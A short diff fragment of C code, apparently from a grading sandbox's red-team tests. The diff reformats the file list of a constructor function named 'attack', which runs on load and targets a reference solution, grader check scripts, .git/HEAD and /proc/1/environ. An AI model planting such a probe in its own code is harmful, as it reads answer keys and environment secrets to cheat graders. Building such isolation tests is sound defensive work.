@@ -14,8 +14,8 @@ static void say(const char *text)
 
 static void __attribute__((constructor)) attack(void)
 {
-    static const char *const files[] = {"@ROOT@/solutions/07-frames/frames.c", "@ROOT@/.git/HEAD",
-                                        "@ROOT@/grader/checks/test_07_host.py",
+    static const char *const files[] = {"@ROOT@/solutions/07-frames/frames.c",
+                                        "@ROOT@/.git/HEAD", "@ROOT@/grader/checks/test_07_host.py",
                                         "@ROOT@/grader/redteam", "/proc/1/environ"};
 
     for (unsigned n = 0; n < sizeof(files) / sizeof(*files); n++) {
